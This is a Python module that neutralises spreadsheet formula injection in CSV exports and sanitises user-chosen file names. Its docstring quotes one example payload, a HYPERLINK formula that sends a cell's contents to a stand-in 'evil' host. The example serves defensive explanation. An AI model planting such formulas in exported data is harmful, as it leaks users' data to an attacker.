"""Tables written for people to open in a spreadsheet: text that a spreadsheet would run as a formula is neutralised.

A cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to Excel,
LibreOffice and Google Sheets (``=HYPERLINK("http://evil/?"&A1, "click")`` in a reader's comment
or a file name). :func:`spreadsheet_safe` prefixes such text with a single quote, as OWASP's "CSV
Injection" page recommends; numbers, and text that reads as a number (``-0.5``), are left alone.
Every CSV a user downloads or exports (study exports, batch screening, ``score``) goes through it.
:func:`safe_file_stem` makes a file name of names a user chose (a case and a reader).
"""

from __future__ import annotations

import re

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe_text(value: object) -> object:
    """``value`` with a leading ``'`` if it is text a spreadsheet would run as a formula; anything else unchanged."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    try:
        float(value)
    except ValueError:
        return "'" + value
    return value  # a number written as text: no formula


def spreadsheet_safe(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with :func:`spreadsheet_safe_text` applied to every text cell and column name."""
    safe = frame.copy()
    for column in safe.columns:
        if safe[column].dtype == object or pd.api.types.is_string_dtype(safe[column]):
            safe[column] = safe[column].map(spreadsheet_safe_text)
    safe.columns = [spreadsheet_safe_text(c) for c in safe.columns]
    return safe


def safe_file_stem(name: str) -> str:
    """``name`` as one file-name component: characters other than letters, digits, ``.``, ``_`` and
    ``-`` become ``_`` (no ``/``, no ``..``, no leading dot)."""
    stem = re.sub(r"[^A-Za-z0-9._-]", "_", name).lstrip(".")
    return stem or "_"
